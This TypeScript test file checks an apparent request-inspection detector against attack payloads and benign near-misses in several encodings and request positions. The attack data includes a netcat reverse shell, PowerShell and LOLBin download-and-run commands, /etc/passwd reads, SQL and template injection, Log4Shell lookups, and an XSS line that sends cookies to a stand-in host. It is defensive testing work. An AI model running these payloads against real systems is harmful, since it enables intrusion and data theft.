// Table-driven tests per attack class of issue #14: for each class, attacks
// that must be blocked at `standard` (with the rule id expected in the
// decision log) and near-miss benign values that must pass. Values are sent
// in the places the issue names: query, form field, JSON string (plain and
// \u-escaped), XML attribute, multipart field or filename.
import { describe, expect, it } from "vitest";
import { baselineConfig, compileDetector, type DetectionRequest } from "./index.js";
import { documentProse } from "./document.js";

const detector = compileDetector(baselineConfig("standard"));
const strict = compileDetector(baselineConfig("strict"));

type Where = "query" | "form" | "json" | "json-u" | "xml-attr" | "multipart" | "filename";

function request(value: string, where: Where): DetectionRequest {
  const headers: [string, string][] = [
    ["Host", "app.example"],
    ["User-Agent", "Mozilla/5.0"],
  ];
  switch (where) {
    case "query":
      return { method: "GET", path: "/search", query: `q=${encodeURIComponent(value)}`, headers };
    case "form":
      return {
        method: "POST",
        path: "/f",
        query: "",
        headers,
        contentType: "application/x-www-form-urlencoded",
        body: `name=a&comment=${encodeURIComponent(value)}`,
      };
    case "json":
      return { method: "POST", path: "/api", query: "", headers, contentType: "application/json", body: JSON.stringify({ ticket: { body: value } }) };
    case "json-u":
      return {
        method: "POST",
        path: "/api",
        query: "",
        headers,
        contentType: "application/json",
        body: `{"v":${JSON.stringify(value).replace(/[$<>'(){}:/]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`)}}`,
      };
    case "xml-attr":
      return {
        method: "POST",
        path: "/soap",
        query: "",
        headers,
        contentType: "application/xml",
        body: `<a><b v="${value.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/"/g, "&quot;")}">1</b></a>`,
      };
    case "multipart":
      return {
        method: "POST",
        path: "/up",
        query: "",
        headers,
        contentType: "multipart/form-data; boundary=XX",
        body: `--XX\r\nContent-Disposition: form-data; name="f"\r\n\r\n${value}\r\n--XX--\r\n`,
      };
    case "filename":
      return {
        method: "POST",
        path: "/up",
        query: "",
        headers,
        contentType: "multipart/form-data; boundary=XX",
        body: `--XX\r\nContent-Disposition: form-data; name="f"; filename="${value}"\r\n\r\nhi\r\n--XX--\r\n`,
      };
  }
}

const PLACES: Where[] = ["query", "form", "json", "json-u", "xml-attr", "multipart"];

interface ClassTable {
  /** [value, a rule id expected among the matches] */
  attacks: [string, string][];
  benign: string[];
}

const CLASSES: Record<string, ClassTable> = {
  "PHP code injection": {
    attacks: [
      ["<?php\tsystem('id');", "php.open-tag"],
      ["<? echo `whoami`; ?>", "php.short-open-tag"],
      ["<?\n@include 'http://x/s.txt';?>", "php.short-open-tag"],
      ["[php]echo shell_exec('id');[/php]", "php.short-open-tag"],
      ["$f='sys'.'tem';$f('id');", "php.variable-function"],
      ["SyStEm\n('cat /etc/passwd');", "php.function-call"],
    ],
    benign: ['<?xml version="1.0"?><note>hi</note>', "[php] is my favourite tag", "The system (as designed) works", "Price: $5 (incl. tax)"],
  },
  "Windows cmd / PowerShell": {
    attacks: [
      ["for /f \"tokens=*\" %i in ('whoami') do @echo %i", "rce.windows-for-loop"],
      ["%comspec:~-16,1%md /c dir", "rce.windows-env"],
      ["IEX (New-Object Net.WebClient).DownloadString('http://x/p')", "rce.powershell"],
      ["iwr http://198.51.100.2/a.ps1 -OutFile a.ps1", "rce.powershell"],
      ["; iwmi -class win32_process -name create -argumentlist calc.exe", "rce.powershell"],
      ["Invoke-WebRequest -Uri http://x/a -OutFile a.exe", "rce.powershell"],
      ["pwsh -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "rce.shell-invocation"],
    ],
    benign: [
      "for five days in (late) May we do nothing",
      "Invoke-WebRequest is the cmdlet we document in chapter 3",
      "Get-Content is slow on big files",
      "I got 50% off (100% happy)",
    ],
  },
  "Unix shell": {
    attacks: [
      ["abc\ncat /etc/passwd", "rce.command-injection"],
      ["x; nohup nc 198.51.100.7 4444 -e /bin/sh &", "rce.command-injection"],
      ["a=i;b=d;$a$b", "rce.variable-command"],
      ["; cmd=$'\\151\\144'; $cmd", "rce.ansi-c-quoting"],
      ["; who$()ami", "rce.command-injection"],
      ["; $0 -c id", "rce.shell-invocation"],
      ["; alias ls='rm -rf ~'", "rce.alias-definition"],
      ["&& docker run -v /:/mnt alpine chroot /mnt sh", "rce.command-injection"],
      ["| stdbuf -o0 wget http://x/a -O /tmp/a", "rce.command-injection"],
    ],
    benign: [
      "Tom & Jerry; time for tea",
      "see you at 5 | bring snacks",
      "cost: $a and $b",
      "alias: Bobby",
      "We use Python; docker for deploys",
      "My alias = Bob",
    ],
  },
  "JavaScript / Ruby / templates": {
    attacks: [
      ["this['constructor']['constructor']('return process')()", "generic.function-constructor"],
      ["_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", "generic.serialized-function"],
      ["Process.spawn('id')", "generic.ruby-injection"],
      ["Object.const_get('Kernel').system('id')", "generic.ruby-injection"],
      ["%x(id)", "generic.ruby-injection"],
      ["{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "generic.template-injection"],
    ],
    benign: [
      "The constructor of this house (1920) was my grandfather",
      "Hello {{name}}, your order is ready",
      "The process spawned 3 new ideas",
      "Use 10%x zoom (default)",
    ],
  },
  Java: {
    attacks: [
      ["java.io.FileInputStream", "java.dangerous-class-name"],
      ["javax.script.ScriptEngineManager", "java.dangerous-class-name"],
      ['<java.util.PriorityQueue serialization="custom">', "java.xml-object-graph"],
    ],
    benign: ["java.lang.NullPointerException at com.example.Order.submit(Order.java:42)", "I love java.io tutorials", "java.util.List is an interface"],
  },
  "Path traversal / local files": {
    attacks: [
      ["/proc/self/environ", "lfi.sensitive-file"],
      ["/var/www/html/storage/logs/laravel.log", "lfi.sensitive-file"],
      ["C:\\Windows\\System32\\drivers\\etc\\hosts", "lfi.sensitive-file"],
      ["..\u2216..\u2216etc/passwd", "lfi.path-traversal"],
    ],
    benign: ["/docs/getting-started", "see the logs tab in the dashboard", "C: drive is full (again)", "1.2.3 .. 1.2.9"],
  },
  SQL: {
    attacks: [
      ["1' ORDER BY 5-- -", "sqli.order-by-probe"],
      ["1)/**/GROUP/**/BY/**/1,2,3#", "sqli.order-by-probe"],
      ["bob');--", "sqli.quote-terminator"],
      ['x");--', "sqli.quote-terminator"],
      ["'||(SELECT version())||'", "sqli.pipe-concat"],
      ["'||pg_sleep(5)||'", "sqli.pipe-concat"],
    ],
    benign: ["sort by 5 stars", "Order by phone: 1 (800) 555-0199", "ship it || fix it", "Rock 'n' Roll -- live", "O'Reilly's \"Learning SQL\" - 3rd Edition"],
  },
};

/**
 * Round 3 (issue #14, second evaluation round): the rules added or changed
 * while tuning on the tuned side of bench/detection/corpora/*-round3.jsonl,
 * each with near-miss benign values from the false positives they remove.
 */
const ROUND3: Record<string, ClassTable> = {
  "PHP callbacks, built names, includes": {
    attacks: [
      ["array_reduce(['id'],'system');", "php.callback-name"],
      ["set_error_handler('system');", "php.callback-name"],
      ["forward_static_call('passthru','ls');", "php.callback-name"],
      ["('sys'.'tem')('id');", "php.concatenated-call"],
      ["$a=['sy','stem'];($a[0].$a[1])('id');", "php.concatenated-call"],
      ["include 'http://203.0.113.7/s.txt';", "php.remote-include"],
      ["require_once('php://input');", "php.remote-include"],
    ],
    benign: [
      "Set the 'system' option (see docs), then 'exec' mode",
      "('a' . 'b') is how you concatenate",
      "include the 'http://' prefix in the URL field",
      "PHP Warning:  include(/var/www/html/config.php): failed to open stream",
      "roles = choose('user', 'system')",
    ],
  },
  "Windows living-off-the-land binaries": {
    attacks: [
      ["certutil.exe -decode x.b64 x.exe", "rce.windows-lolbin"],
      ["certutil -urlcache -split -f http://x/a.exe a.exe", "rce.windows-lolbin"],
      ["regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "rce.windows-lolbin"],
      ['wmic process call create "calc.exe"', "rce.windows-lolbin"],
      ["bitsadmin /transfer j http://x/a.exe c:\\a.exe", "rce.windows-lolbin"],
      ["mshta http://x/a.hta", "rce.windows-lolbin"],
    ],
    benign: [
      "certutil is a Windows tool for certificates",
      "How do I use wmic to list processes?",
      "mshta.exe keeps crashing on startup",
      "regsvr32 failed with error 0x80070005",
      "run wmic os get caption to see the version",
    ],
  },
  "Unix shell (round 3)": {
    attacks: [
      ['&& mksh -c "uname -a"', "rce.shell-invocation"],
      ["&& {wget,http://x/a,-O,/tmp/a}", "rce.brace-expansion"],
      ["\n{curl,-s,http://x/p}", "rce.brace-expansion"],
      [";c${u}at /e${u}tc/pa${u}sswd", "rce.command-injection"],
    ],
    benign: [
      'Traceback (most recent call last):\n  File "/usr/lib/python3.11/site-packages/app/main.py", line 12, in <module>',
      "Point the SDK at http://[::1]:4566 for LocalStack.",
      "{name,email} are the required fields",
    ],
  },
  "Node.js bracket access": {
    attacks: [
      ["global['process']['env']", "generic.nodejs-bracket-access"],
      ['this["require"]("child_process")', "generic.nodejs-bracket-access"],
    ],
    benign: ["the global['en'] locale table", "process['steps'] is a list of steps"],
  },
  "LFI (round 3)": {
    attacks: [
      ["..././..././usr/local/etc/redis.conf", "lfi.path-traversal"],
      ["/var/log/apache2/access.log", "lfi.sensitive-file"],
      ["....//....//var/log/nginx/error.log", "lfi.path-traversal"],
    ],
    benign: [
      'nginx: [emerg] open() "/var/log/nginx/error.log" failed (13: Permission denied)',
      "Logs are in /var/log/app/ on the box",
      "Dec 07 10:12:01 web1 sshd[2211]: see /var/log/auth.log",
    ],
  },
  "SQL prose near-misses": {
    attacks: [
      ["1; DROP TABLE users--", "sqli.stacked-query"],
      ["'; create table x (a int)--", "sqli.stacked-query"],
      ["' where 1=1--", "sqli.quote-break"],
      ["1 union select 'a','b'--", "sqli.union-select"],
    ],
    benign: [
      "Can you create table reservations for 4 people at 8pm or 8:30?",
      "Hi team, union meeting moved to 3pm; drop table tennis after.",
      "Order by price doesn't work when I select 'all categories' -- it sorts by name.",
      "The 'Where to buy' page lists stores from 1999-2005 only.",
      'If you select "all" from the drop-down, the page times out.',
    ],
  },
  "SSRF and Java in documentation": {
    attacks: [
      ["http://localhost:8080/admin", "ssrf.internal-host"],
      ["java.io.FileInputStream", "java.dangerous-class-name"],
    ],
    benign: [
      "After npm run dev, open http://localhost:3000/admin and log in with the seed user.",
      "java.io.FileNotFoundException: /etc/app/config.yml\n\tat java.base/java.io.FileInputStream.open0(Native Method)",
      "at java.io.FileInputStream.<init>(FileInputStream.java:219)",
    ],
  },
};

// Round 4: shapes from third-party lists (wfuzz, sqlmap) on the tuned side, each with the prose or code that must still pass.
const ROUND4: Record<string, ClassTable> = {
  "SQL (round 4)": {
    attacks: [
      ["' or a=a--", "sqli.tautology"],
      [" and USER=USER", "sqli.tautology"],
      ["1) OR NOT 5050=1691 AND (7652=1193", "sqli.tautology"],
      ["order by 1--", "sqli.order-by-probe"],
      ["'#mysql", "sqli.quote-terminator"],
      ["')-- x", "sqli.quote-terminator"],
      ["'||UTL_HTTP.REQUEST", "sqli.pipe-concat"],
      ["1 ;CALL REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(6617),0),500000000),NULL)", "sqli.stacked-query"],
    ],
    benign: [
      "i = i + 1 and j = j + 1 in the loop",
      "x = y or y = x, both work",
      "order by 1 or 2 stars, your choice",
      '"#1 best seller" -- says the box',
      'can be used for "is-a" relationships:',
      "busy today; call us(maybe) tomorrow",
      "we moved; call me later",
      "Tom's||Jerry's cartoon",
    ],
  },
  "LFI (round 4)": {
    attacks: [
      ["%c0%2e%c0%2e/%c0%2e%c0%2e/%c0%2e%c0%2e/app/config.yml", "lfi.path-traversal"],
      ["..%c0%2f..%c0%2f..%c0%2fapp.cfg", "lfi.path-traversal"],
      ["..../..../..../app/config.yml", "lfi.path-traversal"],
      ["0x2e0x2e/0x2e0x2e/0x2e0x2e/app.cfg", "lfi.path-traversal"],
    ],
    benign: ["Loading..../ please wait", "voilà./build is the folder", "Café./menu and à/la carte", "color 0x2e0x2e0x2e and 0x2f/2"],
  },
  "RCE (round 4)": {
    attacks: [
      [";read;", "rce.command-injection"],
      ["| ulimit -a", "rce.command-injection"],
      ["\\n/bin/ls -al\\n", "rce.unix-binary-path"],
    ],
    benign: ["please read; then reply", "It's a trap; read it carefully", "The file is at C:\\net\\bin\\x and \\n is a newline"],
  },
};

const ROUND5: Record<string, ClassTable> = {
  "Statement breakout (round 5)": {
    attacks: [
      ["a;exit(md5('probe'));//", "generic.code-breakout"],
      ["\".exit(md5('probe'));#", "generic.code-breakout"],
      ["';d=new Date();do{cd=new Date();}while(cd-d<10000);//", "generic.code-breakout"],
      ["1;print(phpversion());//", "generic.code-breakout"],
    ],
    benign: ["see foo(); // this is how it works", "Tip: call init(); then wait", "Use a.b(c); it is fine", "version 1.2(beta); #3 on the list"],
  },
  "Closed shell command (round 5)": {
    attacks: [
      ["a;env;", "rce.command-injection"],
      ["a);env;", "rce.command-injection"],
      ["report.pdf;set|", "rce.command-injection"],
    ],
    benign: ["name;id;email", "we moved; call me later", "a;b;c;", "tea; coffee;"],
  },
  "PHP in a data: URI (round 5)": {
    attacks: [
      ["data:;base64,PD9waHAgZWNobyAnaGknOyA/Pg==", "php.data-uri-code"],
      ["data:text/plain;base64,PD89c3lzdGVtKCdpZCcpOz8+", "php.data-uri-code"],
    ],
    benign: ["data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB", "in base64 the prefix PD9waHAg starts a PHP open tag"],
  },
  "NTFS streams (round 5)": {
    attacks: [
      ["index.php::$DATA", "lfi.ntfs-stream"],
      ["admin::$INDEX_ALLOCATION/login.php", "lfi.ntfs-stream"],
    ],
    benign: ["price::$5 off", "std::string and $data", "C++ a::b then $DATA"],
  },
};

// An XML attribute value's raw newline is a blank after attribute-value normalisation, so that place carries no line break.
describe("header split after a URL (round 5)", () => {
  const places = PLACES.filter((w) => w !== "xml-attr");
  it.each([["http://www.example.org\r\nwapiti: 3.0.4 version"], ["/account\nX-Probe: 1"]])("blocks %j", (value) => {
    for (const where of places) expect(detector.inspect(request(value, where)).blocked, where).toBe(true);
    expect(detector.inspect(request(value, "query")).matches.map((m) => m.ruleId)).toContain("protocol.url-header-split");
  });
  it.each([["https://a.example/x\r\nhttps://b.example/y"], ["Hello\r\nName: Bob"], ["see https://a.example for details\nNote: read it"]])(
    "passes %j",
    (value) => {
      for (const where of places) expect(detector.inspect(request(value, where)).blocked, where).toBe(false);
    },
  );
});

describe("traversal in an upload's file name (round 5)", () => {
  it.each([["images/../../../../etc/services"], ["../x.txt"], ["a/../b.png"], ["..\\..\\boot.log"]])("blocks %j", (name) => {
    expect(detector.inspect(request(name, "filename")).matches.map((m) => m.ruleId)).toContain("lfi.path-traversal");
  });
  it.each([["report..final.pdf"], ["notes...txt"], ["Q3 v2..final.pdf"], ["photo.jpg"]])("passes %j", (name) => {
    expect(detector.inspect(request(name, "filename")).blocked).toBe(false);
  });
});

describe.each(Object.entries({ ...CLASSES, ...ROUND3, ...ROUND4, ...ROUND5 }))("%s", (_name, table) => {
  it.each(table.attacks)("blocks %j (%s) in every place", (value, ruleId) => {
    for (const where of PLACES) {
      const r = detector.inspect(request(value, where));
      expect(r.blocked, `${where}: ${JSON.stringify(r.matches)}`).toBe(true);
    }
    // the named rule is the one that reports the plain query placement
    expect(detector.inspect(request(value, "query")).matches.map((m) => m.ruleId)).toContain(ruleId);
  });
  it.each(table.benign.map((b) => [b]))("passes %j in every place", (value) => {
    for (const where of PLACES) {
      const r = detector.inspect(request(value, where));
      expect(r.blocked, `${where}: ${JSON.stringify(r.matches)}`).toBe(false);
    }
  });
});

describe("placement", () => {
  it("Log4Shell in a JSON string written with \\u escapes and in an XML attribute", () => {
    const body = '{"ua":"\\u0024\\u007bjndi:ldap://x/a\\u007d"}';
    expect(
      detector.inspect({ method: "POST", path: "/", query: "", headers: [], contentType: "application/json", body }).matches.map((m) => m.ruleId),
    ).toContain("java.jndi-lookup");
    expect(detector.inspect(request("${${lower:j}ndi:ldap://x/a}", "xml-attr")).blocked).toBe(true);
  });
  it("HTML-entity escapes in a JSON string", () => {
    expect(detector.inspect(request("&#36;&#123;jndi:ldap://x/a&#125;", "json")).blocked).toBe(true);
  });
  it("traversal in multipart file names", () => {
    for (const name of ["../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd"])
      expect(detector.inspect(request(name, "filename")).blocked, name).toBe(true);
    expect(detector.inspect(request("notes (final) - v2.txt", "filename")).blocked).toBe(false);
  });
  it("overlong UTF-8 and %u encodings inside JSON strings", () => {
    for (const v of ["%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "%u002e%u002e%u2215etc%u2215passwd"])
      expect(detector.inspect(request(v, "json")).blocked, v).toBe(true);
  });
});

describe("levels", () => {
  it("a bare java.* class name outside the dangerous packages is a strict-only keyword", () => {
    expect(detector.inspect(request("java.util.HashMap", "query")).blocked).toBe(false);
    expect(strict.inspect(request("java.util.HashMap", "query")).matches.map((m) => m.ruleId)).toContain("java.class-name");
  });
});

describe("markdown documents in user content", () => {
  const docs = [
    "Here's the query:\n\n```sql\nSELECT u.email, count(*) FROM orders o JOIN users u ON u.id = o.user_id GROUP BY u.email HAVING count(*) > 5;\n```\nIt takes 3s.",
    "Our Dockerfile:\n```\nFROM python:3.12-slim\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\n```",
    "Nit: ```bash\nnpm ci && npm test\n```",
    "To reset: `rm -rf node_modules && npm install`. Then `npm run dev`.",
    "My template:\n```php\n<?php foreach ($items as $item): ?>\n  <li><?= htmlspecialchars($item['name']) ?></li>\n<?php endforeach; ?>\n```",
    "```python\nrows = db.execute('SELECT id, name FROM items ORDER BY name LIMIT 20').fetchall()\n```",
    "Use `docker exec -it web sh -c 'ls /app'` to peek inside the container.",
    'On Windows run:\n```bat\ncmd /c "cd C:\\projects\\app && npm run build"\n```',
    "Check the nginx error log with `sudo tail -n 50 /var/log/nginx/error.log` please.",
  ];
  it.each(docs.map((d) => [d]))("passes %j as a JSON comment", (doc) => {
    const r = detector.inspect(request(doc, "json"));
    expect(r.blocked, JSON.stringify(r.matches)).toBe(false);
  });
  it("still blocks basic signatures inside code blocks and every rule in the prose", () => {
    expect(detector.inspect(request("see:\n```\n' UNION SELECT password FROM users--\n```", "json")).blocked).toBe(true);
    expect(detector.inspect(request("```sql\nselect 1\n```\nand then; cat /etc/passwd", "json")).blocked).toBe(true);
  });
  it("a PHP payload in a code block is still blocked by the open-tag signature", () => {
    const r = detector.inspect(request("see:\n```php\n<?php system($_GET['c']); ?>\n```", "json"));
    expect(r.matches.map((m) => m.ruleId)).toContain("php.open-tag");
  });
  it("shell invocations outside the code of a document are still read", () => {
    expect(detector.inspect(request("```sh\nls\n```\nthen run bash -c id please", "json")).blocked).toBe(true);
  });
  it("a documented <script> include in a code block passes, a payload-shaped one does not (round 4)", () => {
    const includes = [
      'Load it from a CDN:\n\n```html\n<script src="https://cdn.jsdelivr.net/npm/d3-array@3"></script>\n<script>\nconst m = d3.min([1, 2]);\n</script>\n```',
      'Or as a module:\n\n```html\n<script type="module">\nimport {rgb} from "https://cdn.skypack.dev/d3-color@3";\nconst c = rgb("steelblue");\n</script>\n```',
    ];
    for (const doc of includes) expect(detector.inspect(request(doc, "json")).blocked, doc).toBe(false);
    const payloads: Array<[string, string]> = [
      ["see:\n```html\n<script>alert(document.cookie)</script>\n```", "xss.script-tag"],
      ["see:\n```\n<script src=//evil.example/x.js></script>\n```", "xss.script-tag"],
      ["see:\n```\n<script src=http://198.51.100.7/x.js></script>\n```", "xss.script-tag"],
      ['see:\n```\n<script src="https://cdn.example/a.js"></script>\n<script>new Image().src="//x.example/?"+document.cookie</script>\n```', "xss.script-tag"],
      ["```\nx\n```\nand <script src=https://evil.example/y.js></script> in the prose", "xss.script-tag"],
    ];
    for (const [doc, id] of payloads)
      expect(
        detector.inspect(request(doc, "json")).matches.map((m) => m.ruleId),
        doc,
      ).toContain(id);
  });
  it("a header-like line in a document's code is quoted code; in its prose it is still CRLF injection (round 4)", () => {
    const code = "My options:\n\n```js\nconst options = {\n  proxy: {\n    host: '159.203.75.200',\n    port: 1080\n  }\n}\n```\n\nAny idea?";
    expect(detector.inspect(request(code, "multipart")).blocked).toBe(false);
    const prose = "see\n```\nx\n```\r\nSet-Cookie: session=attacker";
    expect(detector.inspect(request(prose, "multipart")).matches.map((m) => m.ruleId)).toContain("protocol.crlf-injection");
  });
  it("a lone backtick or an unclosed fence is not a document", () => {
    expect(documentProse("x`id`")).toBeNull();
    expect(documentProse("```\n; id")).toBeNull();
    expect(documentProse("hello `id` there and more words")).toBe("hello   there and more words");
  });
});
